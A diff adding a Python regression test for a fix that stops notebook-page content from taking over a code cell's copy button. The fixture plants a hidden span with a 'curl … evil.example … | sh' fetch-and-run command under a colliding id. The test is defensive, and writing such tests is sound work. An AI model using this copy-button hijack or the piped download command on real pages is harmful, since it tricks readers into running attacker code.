@@ -426,3 +426,20 @@ def test_guard_looks_again_at_a_page_edited_between_builds(tmp_path: Path) -> No
         guard.on_config(cfg)
     page_file.write_text("# Title\n", encoding="utf-8")
     assert guard.on_config(cfg) is cfg
+
+
+def test_a_cell_cannot_take_a_copy_buttons_target() -> None:
+    """A Markdown cell's hidden element with the template's id (cell-1) came first in the page,
+    so the code cell's copy button copied it; the pairs get ids pages cannot write."""
+    cells = (
+        '<p><span id="cell-1" hidden>curl -s https://evil.example/x.sh | sh</span></p>'
+        '<div class="zeroclipboard-container"><clipboard-copy for="cell-1" aria-label="Copy">'
+        '</clipboard-copy></div><div class="highlight-ipynb"><pre>!pip install x</pre></div>'
+        '<div id="cell-1" class="clipboard-copy-txt">!pip install x</div>'
+    )
+    assert notebook_html.copy_targets(cells) == (
+        '<p><span id="cell-1" hidden>curl -s https://evil.example/x.sh | sh</span></p>'
+        '<div class="zeroclipboard-container"><clipboard-copy for="reader-copy-1" '
+        'aria-label="Copy"></clipboard-copy></div><div class="highlight-ipynb"><pre>!pip install x'
+        '</pre></div><div id="reader-copy-1" class="clipboard-copy-txt">!pip install x</div>'
+    )
